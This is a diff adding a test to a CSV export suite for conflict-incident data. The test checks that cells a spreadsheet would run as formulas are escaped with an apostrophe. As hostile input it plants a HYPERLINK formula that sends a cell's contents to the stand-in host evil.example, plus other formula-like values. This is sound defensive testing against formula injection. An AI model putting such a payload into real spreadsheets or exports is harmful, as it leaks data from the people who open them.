@@ -137,6 +137,30 @@ describe("exportSheets", () => {
     expect(attack?.summary_ar).toBe("هاجم مسلحون السجن بحسب قسد، واستمر القتال أياماً.");
   });
 
+  it("puts a ' before each cell a spreadsheet would run as a formula, and the ' is gone on reload", () => {
+    const hostile = {
+      ...TRICKY,
+      "claims.csv": (TRICKY["claims.csv"] ?? "")
+        .replace(
+          "ISIS claims many inmates escaped.",
+          '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
+        )
+        .replace("The Asayish report a raid.", "@SUM(1+1)")
+        .replace("SOHR denies the clash took place.", "-2+3 dead"),
+    };
+    const exported = build(hostile);
+    const files = exportSheets(exported, [...exported.features.keys()]);
+    const claims = rowsOf(files["claims.csv"]).map((row) => row.claim_en);
+    expect(claims).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+    expect(claims).toContain("'@SUM(1+1)");
+    expect(claims).toContain("'-2+3 dead");
+    const incidents = rowsOf(files["incidents.csv"]);
+    expect(incidents.map((row) => row.title_en)).toContain("'=Clash in the desert");
+    // Plain negative numbers are data: no ' (the fixture has none, so check a longitude the export writes).
+    for (const row of incidents) expect(row.lon ?? "").not.toMatch(/^'/);
+    expect(reload(files).features).toEqual(exported.features);
+  });
+
   it("gives a place row the point its incidents share, and an override only to incidents elsewhere", () => {
     const files = exportSheets(original, all);
     const ghuwayran = rowsOf(files["places.csv"]).find((row) => row.id === "ghuwayran");
